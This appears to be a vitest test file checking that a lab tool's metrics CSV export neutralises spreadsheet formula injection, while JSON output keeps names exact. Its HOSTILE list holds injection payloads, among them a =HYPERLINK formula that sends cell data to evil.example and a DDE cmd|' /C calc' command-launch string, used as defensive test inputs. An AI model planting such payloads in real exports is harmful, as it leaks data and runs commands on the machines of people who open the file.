/**
 * The metrics CSV against formula injection: a spreadsheet runs a cell that starts with =, +, -, @,
 * tab or carriage return as a formula (=HYPERLINK, =cmd|...), so a text cell that starts with one
 * is written with a leading single quote, quoted (OWASP's advice), while numbers, negative ones
 * included, stay numbers.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { exportMetrics, metricsCsv } from '../../src-main/api/exports.ts';
import { Lab, type MetricsRow } from '../../src-main/lab/lab.ts';

const HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"open")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(A1:A9)', '\t=1+1', '\r=1+1'];

/** RFC 4180 fields of one line (quotes doubled inside quoted fields) */
function fields(line: string): string[] {
  const out: string[] = [];
  const re = /("(?:[^"]|"")*"|[^,]*)(,|$)/gy;
  let m: RegExpExecArray | null;
  while ((m = re.exec(line)) && m[0] !== '') {
    out.push(m[1].startsWith('"') ? m[1].slice(1, -1).replaceAll('""', '"') : m[1]);
    if (m[2] === '') break;
  }
  return out;
}

const row = (experiment: string, over: Partial<MetricsRow> = {}): MetricsRow => ({
  experiment, run: 1, cell: 'gru', seed: 1, step: 10, chars_seen: 640, wall_seconds: 0.5, train_loss: 2.25, val_loss: null, bits_per_char: null, grad_norm: 0.75, lr: 0.002, ...over,
});

describe('metricsCsv', () => {
  it('writes a text cell that a spreadsheet would run with a leading quote, quoted', () => {
    const csv = metricsCsv(HOSTILE.map((name) => row(name)));
    const lines = csv.split('\n');
    // a \r inside a quoted field is part of the field, not a line end
    const records = lines.slice(1, -1);
    expect(records).toHaveLength(HOSTILE.length);
    for (const [i, name] of HOSTILE.entries()) {
      expect(records[i].startsWith(`"'`), JSON.stringify(records[i])).toBe(true);
      expect(fields(records[i])[0]).toBe(`'${name}`);
    }
    expect(records[0]).toBe(`"'=HYPERLINK(""http://evil.example/?""&A1,""open"")",1,gru,1,10,640,0.5,2.25,,,0.75,0.002`);
  });

  it('keeps numbers as numbers, negative ones too, and harmless text as it was', () => {
    const csv = metricsCsv([row('plain name', { train_loss: -1.5, grad_norm: -0, lr: -1e-7, val_loss: -2 })]);
    expect(csv.split('\n')[1]).toBe('plain name,1,gru,1,10,640,0.5,-1.5,-2,,0,-1e-7');
    // a name with a comma or quote is quoted as before, and one with = inside (not first) is harmless
    expect(metricsCsv([row('a, "b" = c')]).split('\n')[1]).toMatch(/^"a, ""b"" = c",1,/);
  });
});

describe('exportMetrics', () => {
  let lab: Lab;
  beforeAll(() => {
    lab = Lab.open({ db: ':memory:', workers: 1 });
  });
  afterAll(async () => {
    await lab.close();
  });

  it('an experiment named like a formula comes out neutralised in the CSV and exact in the JSON', () => {
    const { corpus } = lab.importCorpus(new TextEncoder().encode('abcabcabd\n'.repeat(300)), { name: 'abc' });
    const spec = { cells: ['gru' as const], budget: { mode: 'hidden' as const, hidden: 8 }, train: { seqLen: 8, batch: 2, steps: 10 } };
    for (const name of HOSTILE) {
      const { experiment, runs } = lab.createExperiment({ corpusId: corpus.id, name, spec });
      lab.store.metrics.insert(runs[0].id, [{ step: 1, charsSeen: 16, wallSeconds: 0.01, trainLoss: 2.3, gradNorm: 1.2, clipped: false, lr: 0.002, charsPerSecond: 1600 }]);
      const csv = exportMetrics(lab, experiment.id, 'csv').text!;
      const record = csv.split('\n').slice(1, -1).join('\n');
      expect(fields(record)[0]).toBe(`'${experiment.name}`);
      expect(record).toMatch(/^"'/);
      const json = JSON.parse(exportMetrics(lab, experiment.id, 'json').text!);
      expect(json.experiment.name).toBe(experiment.name);
      expect(json.runs[0].metrics[0].experiment).toBe(experiment.name);
    }
  });
});
